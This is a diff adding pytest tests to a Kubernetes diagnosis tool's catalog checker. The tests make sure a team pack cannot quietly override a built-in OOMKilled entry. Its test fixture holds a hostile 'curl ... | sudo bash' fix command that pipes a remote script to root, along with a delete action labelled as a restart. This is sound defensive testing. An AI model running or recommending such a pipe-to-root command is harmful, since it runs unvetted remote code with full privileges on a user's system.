@@ -114,8 +114,77 @@ def test_a_team_pack_is_held_to_the_same_rules(tmp_path: Path) -> None:
     checked = kubemedic("catalog", "check", env={"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)})
     assert checked.code == 2
     for expected in (
-        "frob/pack.yaml: name must be the folder's (frob)",
+        "frob/pack.yaml:1: name must be the folder's (frob)",
         "a case of 'no-such-entry', which is no entry",
-        "frob-typo.yaml: symtpoms: unknown key",
+        "frob-typo.yaml:4: symtpoms: unknown key",
     ):
         assert expected in checked.stderr, (expected, checked.stderr)
+
+
+def test_packs_count_valid_entries_only_and_name_the_rejected(tmp_path: Path) -> None:
+    pack = _team_pack(tmp_path)
+    (pack / "entries" / "frob-typo.yaml").write_text(
+        TEAM_ENTRY.replace("frob-overload", "frob-typo").replace("symptoms:", "symtpoms:")
+    )
+    env = {"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)}
+    listed = kubemedic("catalog", "packs", env=env)
+    line = next(line for line in listed.stdout.splitlines() if line.startswith("frob "))
+    assert "frobnicator 2.x  1 entries  1 cases  (1 rejected: frob-typo" in line
+    [row] = [
+        r for r in kubemedic("catalog", "packs", "--json", env=env).json() if r["name"] == "frob"
+    ]
+    assert row["entries"] == 1 and row["rejected"] == ["frob-typo"]
+
+
+OOM_PASTE = b"Last State:     Terminated\n  Reason:       OOMKilled\n  Exit Code:    137\n"
+EVIL = """\
+id: oom-killed
+title: Container killed for exceeding its memory limit (OOMKilled)
+summary: A team's version of the core entry.
+symptoms: ["OOMKilled", "Exit Code 137"]
+root_cause: The container ran out of memory.
+fix: [{text: Run the fixer., command: "curl -s https://fixer.example.com/x.sh | sudo bash"}]
+links: [{url: "https://runbooks.example.com/oom", title: Runbook}]
+sources: [team-runbook]
+remediation:
+  - {kind: delete-pod, label: Restart the container with more memory, effect: fixes, target: pod}
+"""
+
+
+def test_a_team_pack_replaces_a_core_entry_only_where_it_says_so(tmp_path: Path) -> None:
+    """Issue 76 (LOW): a pack swapped oom-killed's fix for `curl ... | sudo bash` and a delete
+    button labelled as a restart; `catalog check` passed and the answer did not say it came
+    from a team pack."""
+    pack = _team_pack(tmp_path)
+    (pack / "entries" / "oom-killed.yaml").write_text(EVIL)
+    env = {"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)}
+    checked = kubemedic("catalog", "check", env=env)
+    assert checked.code == 2
+    assert "oom-killed.yaml:1: replaces the built-in entry 'oom-killed'" in checked.stderr
+    assert "without `overrides: [oom-killed]`" in checked.stderr
+    answer = kubemedic("match", stdin=OOM_PASTE, env=env).stdout
+    assert "[oom-killed]" in answer and "sudo bash" not in answer and "from team pack" not in answer
+
+    (pack / "pack.yaml").write_text(TEAM_MANIFEST + "overrides: [oom-killed]\n")
+    checked = kubemedic("catalog", "check", env=env)
+    assert checked.code == 0, checked.stderr
+    assert "overrides the built-in entry oom-killed" in checked.stdout
+    answer = kubemedic("match", stdin=OOM_PASTE, env=env).stdout
+    assert "[oom-killed]  confidence: high" in answer and "from team pack frob" in answer
+
+
+def test_an_override_naming_no_builtin_entry_is_a_problem(tmp_path: Path) -> None:
+    pack = _team_pack(tmp_path)
+    (pack / "pack.yaml").write_text(TEAM_MANIFEST + "overrides: [frob-overload, oom-kiled]\n")
+    checked = kubemedic("catalog", "check", env={"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)})
+    assert checked.code == 2
+    assert "pack.yaml:5: overrides: 'frob-overload' is no built-in entry" in checked.stderr
+    assert "pack.yaml:5: overrides: 'oom-kiled' is no built-in entry" in checked.stderr
+
+
+def test_an_entry_may_not_say_which_pack_it_comes_from(tmp_path: Path) -> None:
+    pack = _team_pack(tmp_path)
+    (pack / "entries" / "frob-overload.yaml").write_text(TEAM_ENTRY + "pack: istio\n")
+    checked = kubemedic("catalog", "check", env={"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)})
+    assert checked.code == 2
+    assert "frob-overload.yaml:10: pack: set from where the file is" in checked.stderr
